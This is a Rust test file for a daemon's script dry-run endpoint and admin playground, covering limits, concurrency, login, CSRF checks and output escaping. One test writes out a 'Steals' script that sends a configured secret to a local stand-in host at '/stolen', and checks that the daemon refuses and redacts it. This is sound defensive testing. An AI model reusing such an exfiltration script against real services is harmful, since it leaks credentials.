//! Scripts that are tried on a service of a running daemon: what is shown of them, what never comes of them, and who may.

use std::time::Duration;

use oes::daemon::Daemon;
use serde_json::{Value, json};
use url::form_urlencoded::Serializer;

use super::caller::{Answer, Caller};
use super::login::begun_with;
use super::rig::{Rig, eventually, ledger};
use super::scopes::token;

pub(super) const GRACE: Duration = Duration::from_secs(2);
const PATH: &str = "/services/price/dry-run";
/// The script that judges the service, and remembers how often.
const OWN: &str = "memory.set(\"runs\", memory.get(\"runs\", 0) + 1);\n";

/// Returns a config with a service `price` that a script judges, and an interval that no test waits for.
fn config(rig: &Rig, keys: &str) -> String {
    rig.api.answers("/price", 200, "{\"price\": 1}");
    rig.write("own.rhai", OWN);
    let job = "[[services]]\nname = \"job\"\nkind = \"heartbeat\"\nevery = \"1d\"\ntoken = \"a-token-of-a-job\"\n";
    let price = rig.service("price", &format!("match = [\"own\"]\n{keys}"));
    let config = rig.config(&[]) + job + &*price;
    config.replace("interval = \"100ms\"", "interval = \"1h\"")
}

/// Starts a daemon whose service was probed once.
async fn begun(rig: &Rig, keys: &str) -> (Daemon, Caller) {
    rig.write("oes.toml", &config(rig, keys));
    let daemon = rig.start().await;
    let caller = Caller::of(rig);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    while samples(&caller).await != 1 {
        assert!(tokio::time::Instant::now() < deadline, "no probe");
    }
    (daemon, caller)
}

async fn samples(caller: &Caller) -> usize {
    let page = caller.gets("/services/price/samples").await;
    page["samples"].as_array().unwrap().len()
}

pub(super) async fn tries(caller: &Caller, script: &str) -> Answer {
    let body = json!({ "script": script });
    caller.asks("POST", PATH, Some(&body)).await
}

/// Returns what came of a script that is run.
pub(super) async fn ran(caller: &Caller, script: &str) -> Value {
    let answer = tries(caller, script).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    answer.body
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_is_tried_and_nothing_comes_of_it() {
    let rig = Rig::new();
    let (daemon, caller) = begun(&rig, "").await;
    let script = "note(memory.get(\"runs\", 0));\nmemory.set(\"runs\", 99);\n\
                  expect(body.price > 3, \"low\", \"the price is too low\");\nviolation(\"price\", \"gone\");\n";
    let said = ran(&caller, script).await;
    assert_eq!(said["schema"], "oes.dry-run/1");
    assert_eq!(said["exit"], Value::Null);
    assert_eq!(said["request"]["method"], "GET");
    assert_eq!(said["response"]["status"], 200);
    assert!(
        said["response"]["timing_ms"]["connect"].is_number(),
        "{said}"
    );
    let result = &said["result"];
    assert_eq!(result["outcome"], "fail");
    let low = &result["findings"][0];
    assert_eq!(
        (&low["code"], &low["message"], &low["at"]),
        (
            &json!("low"),
            &json!("the price is too low"),
            &json!({ "file": "script.rhai", "line": 3, "column": 1 })
        )
    );
    let run = &result["scripts"][0];
    assert_eq!(
        run["notes"],
        json!(["1"]),
        "it reads the memory of the service"
    );
    assert_eq!(run["memory"]["set"]["runs"]["value"], 99);
    assert!(said["limits"][0]["limits"]["operations"][0].as_u64() > Some(0));
    assert_eq!(said["would"]["violation"], "price");
    assert_eq!(said["would"]["notify"], json!(["hook"]));
    assert_eq!(rig.api.hits("/price"), 2, "it was probed once more");

    let again = ran(&caller, "note(memory.get(\"runs\", 0));").await;
    assert_eq!(again["result"]["scripts"][0]["notes"], json!(["1"]));
    assert_eq!(samples(&caller).await, 1);
    let price = caller.gets("/services/price").await;
    assert_eq!(
        (&price["last"]["outcome"], &price["violations"]),
        (&json!("pass"), &json!([]))
    );
    assert!(ledger(&daemon).incidents.is_empty());
    assert!(rig.inbox.received().is_empty());
    daemon.stop(GRACE).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_wrong_with_a_script_stands_at_its_place() {
    let rig = Rig::new();
    let (daemon, caller) = begun(&rig, "").await;
    let told = |answer: &Answer| -> String {
        let mistakes = answer.body["mistakes"].as_array().unwrap();
        let lines: Vec<&str> = mistakes.iter().map(|one| one.as_str().unwrap()).collect();
        format!("{} {}", answer.status, lines.join("\n"))
    };
    for (script, expected) in [
        ("expect(true);\nlet a = ;\n", "422 script.rhai:2:9: error: "),
        ("", "422 script.rhai: error: "),
        (
            "//! ---\n//! [params]\n//! max = { kind = \"number\" }\nexpect(body.price < param(\"max\"));\n",
            "max",
        ),
        (
            "//! ---\n//! use = [\"none\"]\nexpect(none::f());\n",
            "there is no library `none`",
        ),
    ] {
        let told = told(&tries(&caller, script).await);
        assert!(told.contains(expected), "{script}: {told}");
    }
    let long = format!("// {}\nstop();", "x".repeat(70_000));
    let told = told(&tries(&caller, &long).await);
    assert!(
        told.contains("the script has 70011 bytes, 65536 are allowed"),
        "{told}"
    );
    let huge = tries(&caller, &"x".repeat(2 << 20)).await;
    assert_eq!(huge.status, 413);
    for (path, status) in [
        ("/services/none/dry-run", 404),
        ("/services/job/dry-run", 409),
    ] {
        let body = json!({ "script": "stop();" });
        assert_eq!(
            caller.asks("POST", path, Some(&body)).await.status,
            status,
            "{path}"
        );
    }
    daemon.stop(GRACE).await;
}

/// Each ends with the name of a limit, and the daemon goes on.
#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_never_ends_is_ended() {
    let rig = Rig::new();
    let (daemon, caller) = begun(&rig, "").await;
    for script in [
        "loop {}",
        "let a = []; loop { a.push(\"0123456789\"); }",
        "let a = \"0123456789\"; loop { a += a; }",
        "fn f(n) { f(n + 1) } f(0);",
    ] {
        let said = ran(&caller, script).await;
        let result = &said["result"];
        assert_eq!(result["outcome"], "error", "{script}: {said}");
        let code = result["findings"][0]["code"].as_str().unwrap();
        assert!(code.starts_with("limit."), "{script}: {code}");
    }
    let after = ran(&caller, "expect(body.price == 1);").await;
    assert_eq!(after["result"]["outcome"], "pass");
    daemon.stop(GRACE).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn there_is_one_try_at_a_time() {
    let rig = Rig::new();
    let (daemon, caller) = begun(&rig, "").await;
    rig.api.waits("/price", Duration::from_secs(1));
    let second = async {
        eventually("the probe of the first", || match rig.api.hits("/price") {
            2 => Ok(()),
            hits => Err(hits.to_string()),
        })
        .await;
        tries(&caller, "stop();").await
    };
    let (first, second) = tokio::join!(tries(&caller, "stop();"), second);
    assert_eq!((first.status, second.status), (200, 503));
    assert_eq!(second.kind, "application/problem+json");
    assert_eq!(second.header("retry-after"), Some("2"));
    let third = tries(&caller, "stop();").await;
    assert_eq!(third.status, 200, "{third:?}");
    daemon.stop(GRACE).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_secret_is_shown_or_sent_elsewhere() {
    let rig = Rig::new();
    rig.write("key", "hunter2-token");
    let keys =
        "headers = { authorization = \"Bearer ${file:key}\" }\nsecrets = { KEY = \"${file:key}\" }";
    let (daemon, caller) = begun(&rig, keys).await;
    rig.api.answers(
        "/price",
        200,
        "{\"price\": \"hunter2-token\", \"b\": \"aHVudGVyMi10b2tlbg==\"}",
    );
    let shower = "note(body); print(response.text); memory.set(\"kept\", body.price); note(request.headers);\n\
                 fail(\"echo.\" + body.price, `got ${body.price}`, #{ body: body });\n";
    let elsewhere = rig.inbox.url("/stolen");
    let host = rig.inbox.address();
    let steals = format!(
        "//! Steals.\n//! ---\n//! hosts = [\"{host}\"]\n//! secrets = [\"KEY\"]\n//! [params]\n\
         //! to = {{ kind = \"url\", default = \"{elsewhere}\" }}\n\
         http.get(param(\"to\"), #{{ headers: #{{ key: secret(\"KEY\") }} }});\n"
    );
    let shown = ran(&caller, shower).await;
    let stolen = ran(&caller, &steals).await;
    for said in [&shown, &stolen] {
        let text = said.to_string().to_lowercase();
        assert!(
            !text.contains("hunter2") && !text.contains("ahvudgvymi"),
            "{text}"
        );
    }
    assert!(shown.to_string().contains("***"), "{shown}");
    assert_eq!(stolen["result"]["outcome"], "error", "{stolen}");
    let refused = &stolen["result"]["findings"][0]["message"];
    assert!(
        refused.as_str().unwrap().contains("may not ask"),
        "{stolen}"
    );
    let named =
        format!("//! ---\n//! hosts = [\"{host}\"]\nexpect(http.get(\"{elsewhere}\").ok);\n");
    let warned = ran(&caller, &named).await;
    let warning = &warned["compile"]["warnings"][0];
    assert_eq!(
        (&warning["code"], &warning["line"]),
        (&json!("script/undeclared-host"), &json!(3)),
        "{warned}"
    );
    assert!(
        rig.inbox.received().is_empty(),
        "{:?}",
        rig.inbox.received()
    );
    daemon.stop(GRACE).await;
}

fn form(fields: &[(&str, &str)]) -> String {
    Serializer::new(String::new()).extend_pairs(fields).finish()
}

const SCRIPT: &str = "fail(\"low\", \"the price is too low\");\r\nprint(\"<b>seen</b>\");";

#[tokio::test(flavor = "multi_thread")]
async fn the_page_is_for_administrators_who_have_logged_in() {
    let rig = Rig::new();
    let (other, of_other) = token("bob", "operate");
    let tokens = format!("tokens = [{of_other}]");
    let config = config(&rig, "public = true");
    let (_process, mut browser) = begun_with(&rig, &config, &tokens).await;
    let (page, public) = browser.asks("GET", "/services/price", "", "").await;
    assert_eq!(
        (page.status, public.contains("layground")),
        (200, false),
        "{public}"
    );
    let (away, _) = browser
        .asks("GET", "/playground?service=price", "", "")
        .await;
    assert_eq!(
        (away.status, away.header("location")),
        (303, Some("login?next=%2Fplayground%3Fservice%3Dprice"))
    );
    let fields = form(&[("service", "price"), ("script", SCRIPT)]);
    let (nobody, _) = browser.asks("POST", "/playground", "", &fields).await;
    assert_eq!(nobody.status, 401, "{nobody:?}");

    browser.logs_in(&other, "").await;
    let (denied, page) = browser.asks("GET", "/playground", "", "").await;
    assert_eq!(denied.status, 403);
    let words = "this needs the scope `admin`; the token `bob` has `operate`";
    assert!(page.contains(words), "{page}");
    let csrf = browser.csrf().await;
    let fields = format!("{fields}&csrf={csrf}");
    let (denied, _) = browser.asks("POST", "/playground", "", &fields).await;
    assert_eq!(denied.status, 403);
    assert!(rig.api.hits("/price") <= 1, "nothing was tried");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_of_the_session_tries_a_script_and_no_other_does() {
    let rig = Rig::new();
    let (admin, of_admin) = token("ada", "admin");
    let tokens = format!("tokens = [{of_admin}]");
    let (_process, mut browser) = begun_with(&rig, &config(&rig, ""), &tokens).await;
    browser.logs_in(&admin, "").await;
    let csrf = browser.csrf().await;
    let (seen, page) = browser
        .asks("GET", "/playground?service=price", "", "")
        .await;
    assert_eq!(seen.status, 200);
    let policy = seen.header("content-security-policy").unwrap();
    assert!(policy.contains("script-src 'self'"), "{policy}");
    for shown in ["<option selected>price</option>", "memory.get(", &csrf] {
        assert!(page.contains(shown), "no {shown} in {page}");
    }
    assert!(!page.contains("<option>job"), "a job is never asked");
    let fields =
        |service, script, csrf| form(&[("service", service), ("script", script), ("csrf", csrf)]);
    for wrong in ["", "oes_0"] {
        let wrong = fields("price", SCRIPT, wrong);
        let (refused, _) = browser.asks("POST", "/playground", "", &wrong).await;
        assert_eq!(refused.status, 403, "{wrong}");
    }
    assert!(rig.api.hits("/price") <= 1, "nothing was tried yet");
    let right = fields("price", SCRIPT, &csrf);
    let (tried, page) = browser.asks("POST", "/playground", "", &right).await;
    assert_eq!(tried.status, 200, "{page}");
    for shown in [
        "✗ Fail",
        "the price is too low",
        "script.rhai:1:1",
        "&#60;b&#62;seen",
        "What was probed",
        "fail(&#34;low&#34;",
    ] {
        assert!(page.contains(shown), "no {shown} in {page}");
    }
    let broken = fields("price", "let a = ;", &csrf);
    let (_, page) = browser.asks("POST", "/playground", "", &broken).await;
    assert!(page.contains("script.rhai:1:9"), "{page}");
    let gone = fields("none", "stop();", &csrf);
    let (none, page) = browser.asks("POST", "/playground", "", &gone).await;
    assert_eq!(none.status, 404);
    assert!(
        page.contains("there is no service `none`") && page.contains("stop();"),
        "{page}"
    );
}
